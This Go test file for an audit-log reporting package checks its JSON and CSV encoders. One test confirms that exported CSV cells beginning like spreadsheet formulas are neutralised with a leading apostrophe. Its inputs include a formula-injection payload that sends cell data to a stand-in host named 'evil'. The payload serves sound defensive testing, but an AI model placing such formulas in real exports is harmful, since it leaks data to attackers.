/*
Copyright 2026 The auditops Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/auditops/auditops/internal/store"
)

func TestAppendJSONStringMatchesEncodingJSON(t *testing.T) {
	for _, s := range []string{
		"", "plain", `quote " and \ backslash`, "tab\tnew\nline\rcr", "\x00\x01\x1f control",
		"<html>&amp;", "ünïcödé ✓ 日本", "\u2028\u2029 separators", "bad utf8 \xff\xfe end", "emoji 🙂",
	} {
		got := AppendJSONString(nil, s)
		var back string
		if err := json.Unmarshal(got, &back); err != nil {
			t.Errorf("%q encodes to invalid JSON %s: %v", s, got, err)
			continue
		}
		ref, _ := json.Marshal(s)
		var want string
		_ = json.Unmarshal(ref, &want)
		if back != want {
			t.Errorf("%q round-trips to %q", s, back)
		}
	}
}

func TestEncoders(t *testing.T) {
	at := time.Date(2024, 5, 22, 23, 59, 59, 900_000_000, time.UTC)
	msg := "boom"
	failed := store.Event{
		ID: "id-1", Seq: 185758, Time: at, User: "sony", Method: "35", Status: "failure", StatusCode: 403,
		EntityKind: "pods", EntityID: "team-a/web-1", Message: "said \"no\", twice",
		Principal: json.RawMessage(`{"username":"sony","groups":["a","b"]}`),
		Request:   json.RawMessage(`{"mask":[{"value":"x"}]}`), Error: &msg,
		PreviousState: json.RawMessage(`{"a":1}`), DeviceID: "4184", IssuerDN: "CN=ca,O=KOBIL SYSTEMS,C=DE",
	}
	ok := store.Event{ID: "id-2", Seq: 7, Time: at, User: "liam", Method: "mask", Status: "success", StatusCode: 200, Details: "key=KS.IP; owner=OWNER_DEVICE", Archived: true}
	for _, tc := range []struct {
		name string
		got  []byte
		want string
	}{
		{"summary", AppendSummaryRow(nil, store.SummaryRow{Date: "2024-05-28", User: "liam.lewis@example.com", API: "/mask", Status: "success", Count: 12, LoggedInSeconds: 66059.915689}),
			`{"date":"2024-05-28","api_type":"/mask","status":"success","user":"liam.lewis@example.com","logged_in_time":66059.915689,"count":12}`},
		{"summary whole seconds", AppendSummaryRow(nil, store.SummaryRow{Date: "2024-05-28", User: "u", API: "/a", Status: "failure", Count: 1}),
			`{"date":"2024-05-28","api_type":"/a","status":"failure","user":"u","logged_in_time":0,"count":1}`},
		{"audit detail failure", AppendAuditDetail(nil, &failed),
			`{"requested_method":"35","requested_user":"sony","status":"failure","input_payload":{"mask":[{"value":"x"}]},"response":null,"requested_time":"2024-05-22 23:59:59","error_log":"boom"}`},
		{"audit detail success", AppendAuditDetail(nil, &ok),
			`{"requested_method":"mask","requested_user":"liam","status":"success","input_payload":null,"response":null,"requested_time":"2024-05-22 23:59:59","error_log":null}`},
		{"user log failure", AppendUserLogItem(nil, &failed),
			`{"action":"35","archived":false,"deviceId":"4184","id":185758,"issuerDN":"CN=ca,O=KOBIL SYSTEMS,C=DE","logDate":"1716422399","status":"403","userId":"sony"}`},
		{"user log success", AppendUserLogItem(nil, &ok),
			`{"action":"mask","archived":true,"details":"key=KS.IP; owner=OWNER_DEVICE","deviceId":"","id":7,"logDate":"1716422399","status":"0","userId":"liam"}`},
		{"csv", AppendCSVRow(nil, &failed),
			`id-1,pods,team-a/web-1,2024-05-22T23:59:59.900Z,"{""username"":""sony"",""groups"":[""a"",""b""]}","said ""no"", twice","{""a"":1}",` + "\r\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if string(tc.got) != tc.want {
				t.Errorf("got\n%s\nwant\n%s", tc.got, tc.want)
			}
			if !strings.HasSuffix(tc.want, "\r\n") && !json.Valid(tc.got) {
				t.Errorf("invalid JSON: %s", tc.got)
			}
		})
	}
}

func TestCSVRowsReadBackWithEncodingCSV(t *testing.T) {
	events := []store.Event{
		{ID: "1", EntityKind: "pods", EntityID: "a/b", Message: " leading space", Principal: json.RawMessage(`{"u":"x,y"}`)},
		{ID: "2", Message: "multi\nline\r\ntext", CurrentState: json.RawMessage(`{"q":"\""}`)},
		{ID: "3", Message: ""},
	}
	buf := []byte(CSVHeader)
	for i := range events {
		buf = AppendCSVRow(buf, &events[i])
	}
	// encoding/csv reads a quoted CRLF back as LF.
	records, err := csv.NewReader(bytes.NewReader(buf)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(records) != 4 || strings.Join(records[0], ",")+"\r\n" != CSVHeader {
		t.Fatalf("records = %q", records)
	}
	for i, e := range events {
		r := records[i+1]
		if r[0] != e.ID || r[5] != strings.ReplaceAll(e.Message, "\r\n", "\n") || r[4] != string(e.Principal) || r[7] != string(e.CurrentState) {
			t.Errorf("row %d read back as %q", i, r)
		}
	}
}

func BenchmarkAppendAuditDetail(b *testing.B) {
	e := store.Event{Time: time.Now(), User: "system:serviceaccount:team-a:deployer", Method: "patch", Status: "success",
		Request: json.RawMessage(strings.Repeat(`{"k":"v"},`, 100)[:999]), Response: json.RawMessage(`{"kind":"Status"}`)}
	buf := make([]byte, 0, 4096)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		buf = AppendAuditDetail(buf[:0], &e)
	}
}

// TestCSVCellsAreNeverFormulas: every client-chosen column that starts like
// a spreadsheet formula reads back (with encoding/csv) with a leading "'",
// and nothing else changes (spec/API.md 3.3).
func TestCSVCellsAreNeverFormulas(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil/?"&A1,"x")`, `'=HYPERLINK("http://evil/?"&A1,"x")`},
		{"=1+2", "'=1+2"},
		{"+1", "'+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tcmd", "'\tcmd"},
		{"\r=1", "'\r=1"},
		{"=a,b", "'=a,b"},
		{"plain", "plain"},
		{"a=b", "a=b"},
		{" =x", " =x"},
		{"", ""},
	} {
		t.Run(tc.in, func(t *testing.T) {
			e := store.Event{ID: tc.in, EntityKind: tc.in, EntityID: tc.in, Message: tc.in,
				Principal: json.RawMessage(tc.in), PreviousState: json.RawMessage(tc.in), CurrentState: json.RawMessage(tc.in)}
			row := AppendCSVRow(nil, &e)
			r := csv.NewReader(bytes.NewReader(row))
			r.LazyQuotes = false
			rec, err := r.Read()
			if err != nil {
				t.Fatalf("read back %q: %v", row, err)
			}
			// encoding/csv reads a quoted CR as part of the field, an
			// unquoted leading one is not possible (it would be quoted).
			for i, col := range []int{0, 1, 2, 4, 5, 6, 7} {
				if rec[col] != tc.want {
					t.Errorf("column %d (#%d) = %q, want %q (row %q)", col, i, rec[col], tc.want, row)
				}
			}
		})
	}
}
